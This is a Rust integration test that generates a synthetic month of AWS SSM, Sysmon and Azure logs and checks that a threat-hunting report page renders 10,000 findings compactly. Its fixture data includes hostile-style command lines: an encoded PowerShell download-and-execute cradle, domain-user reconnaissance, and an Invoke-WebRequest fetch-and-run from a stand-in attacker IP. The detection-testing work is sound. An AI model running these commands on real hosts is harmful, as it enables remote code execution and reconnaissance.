//! The `cadet hunt --report` page at scale: 10,000 findings from a generated local archive
//! (SendCommand calls by a dozen principals across accounts and regions over a month, a
//! thousand of them joined to two Sysmon process events each, and Azure Run Commands), opened
//! in headless Debian `chromium` at 1400×900 with the page's `#selftest` hook.
//!
//! It checks what a user met at 1,129 findings with the first page (49,000 px tall, one dot per
//! finding, no evidence shown): the page stays within four screens, the first screen shows the
//! density timeline and incident rows, only a page of rows is in the DOM, and one click on a
//! finding shows its command text and its joined on-host command lines as decoded text.
//!
//! `CADET_REPORT_KEEP=DIR` keeps a copy of the generated report there (for screenshots).

mod common;
use common::{chromium, sample};

use std::collections::HashSet;
use std::io::Write;
use std::path::Path;
use std::process::{Command, Output, Stdio};

use serde_json::Value;

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    enc.write_all(data).unwrap_or_else(|e| panic!("{e}"));
    enc.finish().unwrap_or_else(|e| panic!("{e}"))
}

/// A small deterministic generator (xorshift64*).
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
}

/// Control-plane calls; the first `JOINED` AWS calls picked get two Sysmon events each, so
/// the report holds CALLS + 2 × JOINED = 10,000 findings (and JOINED × 2 re-emissions).
const CALLS: usize = 8_000;
const JOINED: usize = 1_000;
/// 2026-10-01T00:00:00Z.
const START: i64 = 1_790_812_800;
const DAYS: i64 = 30;

const ACCOUNTS: [&str; 14] = [
    "111122223333",
    "444455556666",
    "777788889999",
    "210987654321",
    "123456789012",
    "234567890123",
    "345678901234",
    "456789012345",
    "567890123456",
    "678901234567",
    "789012345678",
    "890123456789",
    "901234567890",
    "012345678901",
];
const REGIONS: [&str; 5] = [
    "eu-west-1",
    "us-east-1",
    "us-west-2",
    "ap-southeast-2",
    "eu-central-1",
];

/// Who calls: (userIdentity builder, accounts it works in, weight).
struct Caller {
    identity: fn(&str, u64) -> Value,
    accounts: &'static [usize],
    weight: u64,
    agent: &'static str,
    ip: &'static str,
}

fn iam_user(name: &'static str) -> impl Fn(&str, u64) -> Value {
    move |account: &str, _| {
        serde_json::json!({
            "type": "IAMUser", "principalId": format!("AIDA{}", name.to_uppercase().replace('.', "")),
            "arn": format!("arn:aws:iam::{account}:user/{name}"), "accountId": account,
            "accessKeyId": "AKIAEXAMPLEKEY000001", "userName": name
        })
    }
}

fn role(name: &'static str, sessions: &'static [&'static str]) -> impl Fn(&str, u64) -> Value {
    move |account: &str, n: u64| {
        let session = sessions[(n % sessions.len() as u64) as usize];
        serde_json::json!({
            "type": "AssumedRole", "principalId": format!("AROAEXAMPLE:{session}"),
            "arn": format!("arn:aws:sts::{account}:assumed-role/{name}/{session}"),
            "accountId": account, "accessKeyId": "ASIAEXAMPLEKEY000001",
            "sessionContext": {
                "sessionIssuer": {"type": "Role", "principalId": "AROAEXAMPLE",
                    "arn": format!("arn:aws:iam::{account}:role/{name}"), "accountId": account, "userName": name},
                "attributes": {"creationDate": "2026-10-01T00:00:00Z", "mfaAuthenticated": "false"}
            }
        })
    }
}

fn callers() -> Vec<Caller> {
    const CLI: &str = "aws-cli/2.17.20 md/awscrt#0.20.11 ua/2.0 os/linux#6.8.0-45-generic md/arch#x86_64 lang/python#3.11.9 md/command#ssm.send-command";
    const PACU: &str = "aws-cli/1.16.0 Python/3.6.0 Linux/4.4.0 botocore/1.12.0 Pacu";
    const TF: &str = "APN/1.0 HashiCorp/1.0 Terraform/1.9.5 (+https://www.terraform.io) terraform-provider-aws/5.70.0";
    vec![
        Caller {
            identity: |a, n| iam_user("mallory")(a, n),
            accounts: &[0],
            weight: 3,
            agent: PACU,
            ip: "203.0.113.66",
        },
        Caller {
            identity: |a, n| iam_user("j.morales")(a, n),
            accounts: &[0, 1, 2],
            weight: 4,
            agent: CLI,
            ip: "198.51.100.23",
        },
        Caller {
            identity: |a, n| role("Admin", &["alice", "bob"])(a, n),
            accounts: &[0, 1, 2, 3, 4, 5, 6, 7],
            weight: 6,
            agent: CLI,
            ip: "198.51.100.7",
        },
        Caller {
            identity: |a, n| role("ci-deployer", &["gitlab-runner-1", "gitlab-runner-2"])(a, n),
            accounts: &[0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13],
            weight: 8,
            agent: TF,
            ip: "192.0.2.10",
        },
        Caller {
            identity: |a, n| role("OrganizationAccountAccessRole", &["break-glass"])(a, n),
            accounts: &[9, 10, 11],
            weight: 1,
            agent: CLI,
            ip: "203.0.113.200",
        },
        Caller {
            identity: |a, n| iam_user("svc-backup")(a, n),
            accounts: &[3, 4],
            weight: 2,
            agent: CLI,
            ip: "10.20.0.5",
        },
    ]
}

/// The host command lines a joined call runs (with quotes and backslashes, which the page
/// must show decoded).
const PAYLOADS: [&str; 3] = [
    "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA2ADYALwBhACcAKQA=",
    "cmd.exe /c \"whoami /all & net user /domain > C:\\Windows\\Temp\\u.txt\"",
    "powershell.exe -c \"Invoke-WebRequest http://203.0.113.66/a.exe -OutFile C:\\Windows\\Temp\\a.exe; & C:\\Windows\\Temp\\a.exe\"",
];

fn rfc3339(secs: i64, millis: i64) -> String {
    let t =
        jiff::Timestamp::from_millisecond(secs * 1000 + millis).unwrap_or_else(|e| panic!("{e}"));
    t.strftime("%Y-%m-%dT%H:%M:%S%.3fZ").to_string()
}

/// Generated archive: `aws/DAY.json.gz` (CloudTrail), `host/DAY.json` (Sysmon, NDJSON),
/// `azure/DAY.json` (Event Grid, NDJSON). Returns the host command lines joined.
fn write_archive(dir: &Path) -> Vec<String> {
    let pair = sample("endpoint/ssm-sendcommand-encoded-powershell.json");
    let call = pair[0]["detail"].clone();
    let (wrapper, payload) = (pair[1].clone(), pair[2].clone());
    let azure = serde_json::to_string(&sample("azure/vm-runcommand-aadinternals.json"))
        .unwrap_or_else(|e| panic!("{e}"));
    let callers = callers();
    let total: u64 = callers.iter().map(|c| c.weight).sum();
    let mut rng = Rng(1651);
    let mut days: Vec<(Vec<Value>, Vec<String>, Vec<String>)> =
        (0..DAYS).map(|_| Default::default()).collect();
    let (mut made, mut joined, mut lines) = (0usize, 0usize, Vec::new());
    while made < CALLS {
        // A burst: one caller, 1–60 calls a few minutes apart from a random start.
        let mut pick = rng.below(total);
        let who = callers
            .iter()
            .position(|c| {
                if pick < c.weight {
                    true
                } else {
                    pick -= c.weight;
                    false
                }
            })
            .unwrap_or(0);
        let burst = 1 + (rng.below(60) * rng.below(60) / 60) as usize;
        let mut t = START + rng.below((DAYS * 86_400 - 7_200) as u64) as i64;
        let azure_burst = rng.below(12) == 0;
        for _ in 0..burst.min(CALLS - made) {
            t += 5 + rng.below(400) as i64;
            let day = ((t - START) / 86_400).clamp(0, DAYS - 1) as usize;
            let n = made as u64;
            if azure_burst {
                let text = azure
                    .replace(
                        "ee0b0f7c-aac6-4a91-bde6-9b94525dde13",
                        &format!("ee0b0f7c-aac6-4a91-bde6-{n:012}"),
                    )
                    .replace(
                        "d2752622-f3b5-4915-bc87-1a140c95cfbe",
                        &format!("d2752622-f3b5-4915-bc87-{n:012}"),
                    )
                    .replace("2026-10-04T02:07:45.9031755Z", &rfc3339(t, 0))
                    .replace("vm-web-01", &format!("vm-web-{:02}", n % 40))
                    .replace(
                        "00000000-1111-2222-3333-444444444444",
                        &format!("00000000-1111-2222-3333-{:012}", n % 3),
                    );
                days[day].2.push(text);
                made += 1;
                continue;
            }
            let c = &callers[who];
            let account = ACCOUNTS[c.accounts[rng.below(c.accounts.len() as u64) as usize]];
            let region = REGIONS[rng.below(REGIONS.len() as u64) as usize];
            let instance = format!("i-0b7e3c9d2a4f{:05x}", n % 900);
            let command = format!("3f1c2b7a-9d4e-4c1b-8a6f-{n:012}");
            let mut rec = call.clone();
            rec["eventTime"] = rfc3339(t, 0).into();
            rec["eventID"] = format!("c7a1e4f2-5b3d-4e6a-9c8b-{n:012}").into();
            rec["userIdentity"] = (c.identity)(account, n);
            rec["recipientAccountId"] = account.into();
            rec["awsRegion"] = region.into();
            rec["sourceIPAddress"] = c.ip.into();
            rec["userAgent"] = c.agent.into();
            rec["requestParameters"]["instanceIds"] = serde_json::json!([instance]);
            rec["responseElements"]["command"]["instanceIds"] = serde_json::json!([instance]);
            rec["responseElements"]["command"]["commandId"] = command.clone().into();
            if n.is_multiple_of(3) {
                rec["requestParameters"]["documentName"] = "AWS-RunShellScript".into();
            }
            days[day].0.push(rec);
            made += 1;
            if joined < JOINED && n % 7 == 3 {
                joined += 1;
                let line = PAYLOADS[joined % PAYLOADS.len()];
                for (k, tmpl) in [&wrapper, &payload].into_iter().enumerate() {
                    let text = serde_json::to_string(tmpl)
                        .unwrap_or_else(|e| panic!("{e}"))
                        .replace("3f1c2b7a-9d4e-4c1b-8a6f-0e2d5c7b9a11", &command)
                        .replace("i-0b7e3c9d2a4f61835", &instance);
                    let mut host: Value =
                        serde_json::from_str(&text).unwrap_or_else(|e| panic!("{e}"));
                    let at = rfc3339(t + 2 + k as i64, 412);
                    host["@timestamp"] = at.clone().into();
                    host["UtcTime"] = at[..23].replace('T', " ").into();
                    host["RecordNumber"] = (100_000 + 2 * n + k as u64).into();
                    host["ProcessGuid"] =
                        format!("{{6f1e2d3c-4b5a-6978-8a9b-{:012}}}", 2 * n + k as u64).into();
                    host["Hostname"] = format!("EC2AMAZ-{:05X}.corp.example", n % 900).into();
                    if k == 1 {
                        host["CommandLine"] = line.into();
                        if line.starts_with("cmd.exe") {
                            host["Image"] = "C:\\Windows\\System32\\cmd.exe".into();
                            host["OriginalFileName"] = "cmd.exe".into();
                        }
                    }
                    lines.push(host["CommandLine"].as_str().unwrap_or_default().to_string());
                    days[day].1.push(host.to_string());
                }
            }
        }
    }
    assert_eq!(joined, JOINED, "the generator joined too few calls");
    for (d, (aws, host, az)) in days.into_iter().enumerate() {
        let write = |sub: &str, name: String, data: Vec<u8>| {
            let p = dir.join(sub);
            std::fs::create_dir_all(&p).unwrap_or_else(|e| panic!("{e}"));
            std::fs::write(p.join(name), data).unwrap_or_else(|e| panic!("{e}"));
        };
        let day = format!("2026-10-{:02}", d + 1);
        if !aws.is_empty() {
            let doc = serde_json::json!({ "Records": aws }).to_string();
            write("aws", format!("{day}.json.gz"), gzip(doc.as_bytes()));
        }
        if !host.is_empty() {
            write(
                "host",
                format!("{day}.json"),
                (host.join("\n") + "\n").into_bytes(),
            );
        }
        if !az.is_empty() {
            write(
                "azure",
                format!("{day}.json"),
                (az.join("\n") + "\n").into_bytes(),
            );
        }
    }
    lines
}

/// `--dump-dom` of `url` in a fresh profile at the given window size.
fn dump_dom(url: &str, size: &str) -> Output {
    let profile = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    Command::new(chromium())
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--virtual-time-budget=10000",
        ])
        .arg(format!("--window-size={size}"))
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg("--dump-dom")
        .arg(url)
        .stdin(Stdio::null())
        .output()
        .unwrap_or_else(|e| panic!("{e}"))
}

/// The attributes of `<body …>` in a DOM dump, unescaped (values may hold `>`, never a raw
/// `"`).
fn body_attributes(dom: &str) -> std::collections::HashMap<String, String> {
    let start = dom
        .find("<body")
        .unwrap_or_else(|| panic!("no <body> in the dump"));
    let mut rest = &dom[start + "<body".len()..];
    let mut out = std::collections::HashMap::new();
    loop {
        rest = rest.trim_start();
        let end = rest
            .find(|c: char| c == '=' || c == '>' || c.is_whitespace())
            .unwrap_or(rest.len());
        let name = rest[..end].to_string();
        rest = &rest[end..];
        if name.is_empty() {
            break;
        }
        let value = match rest.strip_prefix("=\"") {
            Some(v) => {
                let close = v.find('"').unwrap_or(v.len());
                rest = &v[(close + 1).min(v.len())..];
                v[..close]
                    .replace("&quot;", "\"")
                    .replace("&lt;", "<")
                    .replace("&gt;", ">")
                    .replace("&nbsp;", "\u{a0}")
                    .replace("&amp;", "&")
            }
            None => String::new(),
        };
        out.insert(name, value);
    }
    out
}

#[test]
fn report_of_ten_thousand_findings_stays_small_and_shows_evidence_in_one_click() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let archive = dir.path().join("archive");
    let host_lines = write_archive(&archive);
    let report = dir.path().join("hunt.html");
    let out = Command::new(env!("CARGO_BIN_EXE_cadet"))
        .args([
            "hunt", "--all", "--format", "json", "--state", "memory", "--report",
        ])
        .arg(&report)
        .arg(&archive)
        .stdin(Stdio::null())
        .output()
        .unwrap_or_else(|e| panic!("{e}"));
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{err}");
    let printed: Vec<Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect();
    let ids: HashSet<&str> = printed
        .iter()
        .map(|f| f["finding_id"].as_str().unwrap_or_default())
        .collect();
    assert_eq!(ids.len(), CALLS + 2 * JOINED, "{err}");
    assert!(
        printed.len() > ids.len(),
        "no joined finding was re-emitted: {err}"
    );
    let html = std::fs::read_to_string(&report).unwrap_or_else(|e| panic!("{e}"));
    eprintln!(
        "report: {} findings ({} emissions), {} bytes of HTML; the findings as JSON lines: {} bytes",
        ids.len(),
        printed.len(),
        html.len(),
        out.stdout.len()
    );
    if let Some(keep) = std::env::var_os("CADET_REPORT_KEEP") {
        std::fs::create_dir_all(&keep).unwrap_or_else(|e| panic!("{e}"));
        std::fs::copy(&report, Path::new(&keep).join("hunt-10000.html"))
            .unwrap_or_else(|e| panic!("{e}"));
    }

    let dom = dump_dom(&format!("file://{}#selftest", report.display()), "1400,900");
    assert!(
        dom.status.success(),
        "chromium failed: {}",
        String::from_utf8_lossy(&dom.stderr)
    );
    let a = body_attributes(&String::from_utf8_lossy(&dom.stdout));
    let get = |k: &str| a.get(k).cloned().unwrap_or_default();
    let int = |k: &str| get(k).parse::<i64>().unwrap_or(-1);
    eprintln!("page measurements: {a:?}");
    assert!(
        !a.contains_key("data-error"),
        "script error: {}",
        get("data-error")
    );
    assert_eq!(get("data-selftest"), "done", "the self-test did not finish");
    assert_eq!(int("data-rendered"), ids.len() as i64);
    // The layout viewport of a 1400×900 headless window (chromium keeps some of the height
    // for its window frame: 757 px with Debian's chromium 1xx).
    let viewport = get("data-selftest-viewport");
    let (width, screen) = viewport
        .split_once('x')
        .and_then(|(w, h)| Some((w.parse::<i64>().ok()?, h.parse::<i64>().ok()?)))
        .unwrap_or_else(|| panic!("viewport {viewport:?}"));
    assert!(width == 1400 && (600..=900).contains(&screen), "{viewport}");

    // (1) At most four screens tall, with only a page of rows in the DOM.
    let height = int("data-selftest-height");
    assert!(
        (screen..=4 * screen).contains(&height),
        "page height {height} px for a {screen} px screen"
    );
    assert!(
        int("data-drawn") <= 40,
        "rows in the DOM: {}",
        get("data-drawn")
    );
    assert!(
        int("data-selftest-nodes") < 3_000,
        "DOM elements: {}",
        get("data-selftest-nodes")
    );

    // (2) The first screen: the density timeline and incident rows.
    let bottom = int("data-selftest-timeline-bottom");
    assert!(
        (1..=screen).contains(&bottom),
        "timeline ends at {bottom} px"
    );
    assert!(int("data-selftest-timeline-bars") >= 20, "{a:?}");
    assert!(int("data-incidents") > 1 && int("data-incidents") < ids.len() as i64);
    assert!(
        int("data-selftest-incidents-first-screen") >= 3,
        "incident rows on the first screen: {}",
        get("data-selftest-incidents-first-screen")
    );

    // The controls: a drag across the timeline zooms in (finer buckets) and filters the
    // lists, the reset button brings every finding back; the three sort orders; the next
    // page; a capped table's "show all".
    let zoomed = int("data-selftest-zoom-findings");
    assert!(zoomed > 0 && zoomed < ids.len() as i64, "{a:?}");
    assert_eq!(int("data-selftest-zoom-bars-sum"), zoomed);
    assert_eq!(get("data-selftest-zoom-rebucketed"), "true");
    assert_eq!(get("data-selftest-zoom-list-in-range"), "true");
    assert_eq!(int("data-selftest-reset-findings"), ids.len() as i64);
    for order in ["new", "old", "score"] {
        assert_eq!(
            get(&format!("data-selftest-sorted-{order}")),
            "true",
            "sorted by {order}"
        );
    }
    assert_eq!(int("data-selftest-page2-rows"), 40);
    assert_eq!(get("data-selftest-page2-differs"), "true");
    assert_eq!(int("data-selftest-accounts-capped"), 10);
    assert!(int("data-selftest-accounts-total") > 10);
    assert_eq!(
        int("data-selftest-accounts-all"),
        int("data-selftest-accounts-total")
    );

    // (3) One click on a finding shows its command text and joined process lines, decoded.
    assert_eq!(get("data-selftest-clicks"), "1");
    assert_eq!(get("data-selftest-open"), "true");
    assert_eq!(get("data-selftest-command-visible"), "true");
    assert_eq!(get("data-selftest-command-expected"), "true");
    assert_eq!(get("data-selftest-command-in-viewport"), "true");
    let expected = int("data-selftest-lines-expected");
    assert!(expected >= 2, "{a:?}");
    assert_eq!(int("data-selftest-lines-visible"), expected);
    let shown = get("data-selftest-lines");
    let lines: Vec<&str> = shown.split('\n').collect();
    assert_eq!(lines.len() as i64, expected, "{shown:?}");
    for line in &lines {
        assert!(
            host_lines.iter().any(|l| l == line),
            "a joined line is not shown as the host logged it: {line:?}"
        );
        assert!(get("data-selftest-command").contains(line));
    }
    // Backslashes and quotes as logged, not JSON-escaped.
    assert!(
        lines
            .iter()
            .any(|l| l.contains("C:\\ProgramData\\Amazon\\SSM\\")),
        "{lines:?}"
    );
    assert!(
        !shown.contains("\\\\") && !shown.contains("\\\""),
        "{shown}"
    );
    assert!(int("data-selftest-height-open") <= 4 * screen + 1_500);
    // The text filter: a finding id (in capitals) finds that one finding.
    assert_eq!(int("data-selftest-search-findings"), 1);
    assert_eq!(int("data-selftest-search-drawn"), 1);
}
